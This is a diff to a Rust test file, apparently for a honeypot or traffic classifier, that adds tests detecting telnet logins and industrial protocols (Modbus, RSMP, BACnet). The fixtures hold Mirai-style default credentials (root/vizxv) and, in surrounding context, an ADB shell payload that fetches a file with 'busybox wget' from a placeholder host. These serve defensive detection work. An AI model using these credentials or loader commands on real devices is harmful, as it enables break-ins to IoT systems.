@@ -190,6 +190,14 @@ fn telnet_logins() {
         Service::Telnet,
         &["telnet Accepted mirai-list-42"],
     );
+    // Everything typed ahead of the prompts.
+    check(
+        &[(S, b"login: "), (C, b"root\r\nvizxv\r\n"), (S, b"root\r\nPassword: "), (S, b"\r\n# ")],
+        Service::Telnet,
+        &["telnet Accepted mirai-list-02"],
+    );
+    // Some other talk in lines that has a word in common with logins.
+    check(&[(S, b"user: "), (C, b"a\r\nb\r\n"), (S, b"welcome\r\n")], Service::Telnet, &[]);
     // The administrator's own session, with a wrong password first and history in the greeting.
     check(
         &[
@@ -443,6 +451,22 @@ fn programs_over_bare_tcp() {
         &[(C, b"CNXN\0\0\0\x01\0\x10\0\0host::\0OPEN\x40\0\0\0shell:cd /data/local/tmp/; busybox wget http://x/a -O -> a\0\n")],
         Service::Unknown,
         &["LoaderCommand to server: fetch by busybox wget"],
+    );
+}
+
+#[test]
+fn devices_of_the_field_are_named() {
+    let modbus: &[Said<'_>] =
+        &[(C, b"\0\x07\0\0\0\x06\x01\x03\0\0\0\x01"), (S, b"\0\x07\0\0\0\x05\x01\x03\x02\0\x2a")];
+    assert_eq!(hints(&play(modbus).events), ["Serves modbus"]);
+    let rsmp: &[Said<'_>] = &[
+        (C, b"{\"mType\":\"rSMsg\",\"type\":\"Version\",\"mId\":\"a\"}\x0c"),
+        (S, b"{\"mType\":\"rSMsg\",\"type\":\"Version\",\"mId\":\"b\"}\x0c"),
+    ];
+    assert_eq!(hints(&play(rsmp).events), ["Serves rsmp", "Serves rsmp"]);
+    assert_eq!(
+        hints(&datagrams(&[(C, b"\x81\x0a\0\x08\x01\0\x10\x08"), (S, b"\x81\x0a\0\x08\x01\0\x10\0")]).events),
+        ["Serves bacnet"]
     );
 }
 
